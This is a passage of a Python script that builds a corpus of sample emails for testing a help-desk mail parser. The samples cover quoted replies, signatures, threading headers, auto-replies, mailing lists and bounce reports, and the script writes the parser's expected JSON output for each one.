                 headers=(("In-Reply-To", OUR_MESSAGE_ID),))


@case
def quote_marker_html(name: str) -> bytes:
    body = ('<p>Paldies, viss kārtībā.</p><p>2024-03-04 09:00, ACME Support rakstīja:</p>'
            '<blockquote style="border-left:2px solid #ccc">'
            '<div style="color:#888">##-&nbsp;Please type your reply above this line&nbsp;-##'
            "</div><p>Labdien! Vai problēma joprojām pastāv?</p></blockquote>")
    return build(name, html(body), subject="Re: [#ABC-DEF-123] Printeris",
                 to=f"acme+{TOKEN}@acme.saruna.test")


@case
def quote_marker_top_only(name: str) -> bytes:
    # The customer typed below the marker: nothing above it, so nothing is cut.
    body = ("##- Please type your reply above this line -##\n\nI answer down here instead.\n")
    return build(name, text(body), subject="Re: [#ABC-DEF-123] Printeris")


@case
def quote_interleaved(name: str) -> bytes:
    body = ("> Which model is it?\nAn LX-200.\n\n> Since when?\nSince Monday.\n\n"
            "Thanks!\n")
    return build(name, text(body), subject="Re: Questions")


@case
def quote_trailing_block(name: str) -> bytes:
    body = ("It works now, thanks.\n\n"
            "04.03.2024 09:00, ACME Support kirjoitti:\n> Try again please.\n> \n> ACME\n")
    return build(name, text(body), subject="Re: Try again")


@case
def signature_text(name: str) -> bytes:
    return build(name, text("The new password works.\n\n-- \nJane Customer\n"
                                        "Customer Ltd\nhttps://customer.example\n"),
                 subject="Password works")


@case
def signature_thunderbird_html(name: str) -> bytes:
    body = ('<html><body><p>The order arrived, thank you.</p>'
            '<pre class="moz-signature" cols="72">-- \nAnna Berg\nExample GmbH</pre>'
            "</body></html>")
    return build(name, html(body), subject="Order arrived")


# --- threading -----------------------------------------------------------------------------

@case
def thread_in_reply_to(name: str) -> bytes:
    return build(name, text("Following up on my question."),
                 subject="Re: Printer does not print",
                 headers=(("In-Reply-To", f"{OUR_MESSAGE_ID} (ACME Support's message)"),
                          ("References", f"<first@customer.example> {OUR_MESSAGE_ID}")))


@case
def thread_references_folded(name: str) -> bytes:
    references = " ".join(f"<ref-{n}.1709539200@customer.example>" for n in range(8))
    return build(name, text("Long thread."), subject="Re: Re: Re: Long",
                 headers=(("References", references + " bare-id@customer.example"),
                          ("In-Reply-To", "bare-id@customer.example")))


@case
def thread_reply_token(name: str) -> bytes:
    return build(name, text("Replying to the address with the token."),
                 subject="Re: Your ticket", to=f"ACME Support <acme+{TOKEN}@acme.saruna.test>",
                 headers=(("Cc", "Colleague <colleague@customer.example>"),))


@case
def thread_subject_code(name: str) -> bytes:
    return build(name, text("New mail client, same ticket."),
                 subject="Re: [#ABC-DEF-123] Printer does not print")


@case
def thread_reply_to_list(name: str) -> bytes:
    return build(name, text("Please answer my assistant too."),
                 headers=(("Reply-To", "Jane <jane@customer.example>, assistant@customer.example"),
                          ("Cc", "undisclosed-recipients:;")))


# --- loops, automatic mail, bounces --------------------------------------------------------

@case
def loop_vacation_auto_submitted(name: str) -> bytes:
    return build(name,
                 text("I am on holiday until 11 March and will answer after that."),
                 subject="Automatic reply: Printer does not print",
                 headers=(("Auto-Submitted", "auto-replied"), ("X-Autoreply", "yes"),
                          ("In-Reply-To", OUR_MESSAGE_ID)))


@case
def loop_vacation_outlook(name: str) -> bytes:
    return build(name, html("<p>I am out of the office.</p>"),
                 subject="Automatic reply: Invoice", sender="John Smith <john@bigcorp.example>",
                 headers=(("X-Auto-Response-Suppress", "All"),
                          ("Auto-Submitted", "auto-generated"),
                          ("X-MS-Exchange-Inbox-Rules-Loop", "john@bigcorp.example")))


@case
def loop_auto_submitted_no(name: str) -> bytes:
    return build(name, text("Written by a person, says the header."),
                 headers=(("Auto-Submitted", "no"), ("X-Auto-Response-Suppress", "None")))


@case
def loop_precedence_bulk(name: str) -> bytes:
    return build(name, html("<p>Our spring sale!</p>"),
                 subject="Spring sale", sender="Shop <news@shop.example>",
                 headers=(("Precedence", "bulk"),
                          ("List-Unsubscribe", "<https://shop.example/unsubscribe>")))


@case
def loop_mailing_list(name: str) -> bytes:
    return build(name, text("Has anyone seen this error?"),
                 subject="[users] Error 42", sender="Someone <someone@elsewhere.example>",
                 to="users@lists.example",
                 headers=(("List-Id", "Users of the product <users.lists.example>"),
                          ("Precedence", "list")))


@case
def loop_x_loop(name: str) -> bytes:
    return build(name, text("Another help desk answering us."),
                 subject="Re: [#ABC-DEF-123] Printer", sender="Helpdesk <help@other.example>",
                 headers=(("X-Loop", "help@other.example"),))


@case
def loop_noreply_sender(name: str) -> bytes:
    return build(name, text("Your order has shipped."),
                 subject="Shipping confirmation", sender="Shop <no-reply@shop.example>")


@case
def loop_return_path_null(name: str) -> bytes:
    return build(name, text("An autoresponder that only sets Return-Path."),
                 subject="Received", sender="Robot <robot@elsewhere.example>",
                 headers=(("Return-Path", "<>"),))


def _dsn(name: str, recipients: list[tuple[str, str, str]], returned: Message) -> bytes:
    blocks: list[Message | str] = []
    per_message = Message()
    per_message["Reporting-MTA"] = "dns; mx.customer.example"
    per_message["Arrival-Date"] = DATE
    blocks.append(per_message)
    for address, action, code in recipients:
        block = Message()
        block["Final-Recipient"] = f"rfc822; {address}"
        block["Action"] = action
        block["Status"] = code
        block["Diagnostic-Code"] = "smtp; 550 5.1.1 User unknown"
        blocks.append(block)
    status = Message()
    status["Content-Type"] = "message/delivery-status"
    status.set_payload(blocks)
    report = multipart(
        "report",
        text("This is the mail system at host mx.customer.example.\n\n"
             "I'm sorry to have to inform you that your message could not\n"
             "be delivered to one or more recipients.\n"),
        status,
        returned,
        params="; report-type=delivery-status",
    )
    return build(name, report, subject="Undelivered Mail Returned to Sender",
                 sender="MAILER-DAEMON@mx.customer.example (Mail Delivery System)",
                 to="support@acme.test", headers=(("Auto-Submitted", "auto-replied"),))


def _our_mail() -> Message:
    message = mail("ours", text("Hello Jane, we answered your ticket."),
                   subject="[#ABC-DEF-123] Printer does not print", sender=SUPPORT,
                   to="gone@customer.example")
    message.replace_header("Message-ID", OUR_MESSAGE_ID)
    return message


@case
def bounce_dsn_failed(name: str) -> bytes:
    return _dsn(name, [("Gone@customer.example", "failed", "5.1.1")],
                nested(_our_mail()))


@case
def bounce_dsn_mixed_actions(name: str) -> bytes:
    headers = Message()
    headers["Content-Type"] = "text/rfc822-headers"
    headers.set_payload(f"From: {SUPPORT}\nTo: gone@customer.example, "
                        f"late@customer.example\nMessage-ID: {OUR_MESSAGE_ID}\n")
    return _dsn(name, [
        ("gone@customer.example", "failed", "5.1.1"),
        ("late@customer.example", "delayed", "4.4.7"),
        ("fine@customer.example", "delivered", "2.0.0"),
    ], headers)


@case
def bounce_dsn_delayed(name: str) -> bytes:
    return _dsn(name, [("slow@customer.example", "delayed", "4.4.1")],
                nested(_our_mail()))


@case
def bounce_exim(name: str) -> bytes:
    body = ("This message was created automatically by mail delivery software.\n\n"
            "A message that you sent could not be delivered to one or more of its\n"
            "recipients. This is a permanent error. The following address(es) failed:\n\n"
            "  gone@customer.example\n    Unrouteable address\n")
    return build(name, text(body), subject="Mail delivery failed: returning message "
                 "to sender", sender="Mail Delivery System <Mailer-Daemon@mx.customer.example>",
                 headers=(("X-Failed-Recipients", "gone@customer.example"),
                          ("Auto-Submitted", "auto-replied")))


@case
def bounce_qmail_failure_notice(name: str) -> bytes:
    body = ("Hi. This is the qmail-send program at mx.customer.example.\n"
            "I'm afraid I wasn't able to deliver your message to the following addresses.\n\n"
            "<gone@customer.example>:\nSorry, no mailbox here by that name.\n")
    return build(name, text(body), subject="failure notice",
                 sender="MAILER-DAEMON@mx.customer.example")


@case
def read_receipt(name: str) -> bytes:
    notification = Message()
    notification["Content-Type"] = "message/disposition-notification"
    block = Message()
    block["Final-Recipient"] = "rfc822; jane@customer.example"
    block["Disposition"] = "manual-action/MDN-sent-manually; displayed"
    notification.set_payload([block])
    return build(name, multipart(
        "report", text("Your message was displayed."), notification,
        params="; report-type=disposition-notification"), subject="Read: Your ticket")


@case
def crlf_line_endings(name: str) -> bytes:
    return (b"From: Jane <jane@customer.example>\r\nTo: support@acme.test\r\n"
            b"Subject: CRLF everywhere\r\n" + f"Date: {DATE}\r\n".encode()
            + b"Message-ID: <" + name.encode() + b"@customer.example>\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: text/plain; charset="utf-8"\r\n\r\n'
            b"First line.\r\nSecond line.\r\n")


# --- writing -------------------------------------------------------------------------------

def main() -> None:
    arguments = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    arguments.add_argument("--refresh", action="store_true",
                           help="rewrite every expected .json from the current parser")
    options = arguments.parse_args()
    from saruna.mail.parser import parse

    CORPUS.mkdir(parents=True, exist_ok=True)
    written = 0
    for name, build_case in sorted(CASES.items()):
        raw = build_case(name)
        (CORPUS / f"{name}.eml").write_bytes(raw)
        expected = CORPUS / f"{name}.json"
        if options.refresh or not expected.exists():
            data = json.dumps(parse(raw).as_json(), ensure_ascii=False, indent=2, sort_keys=True)
            expected.write_text(data + "\n", encoding="utf-8")
            written += 1
    print(f"{len(CASES)} mails in {CORPUS}, {written} expected .json written", file=sys.stderr)


if __name__ == "__main__":
    main()
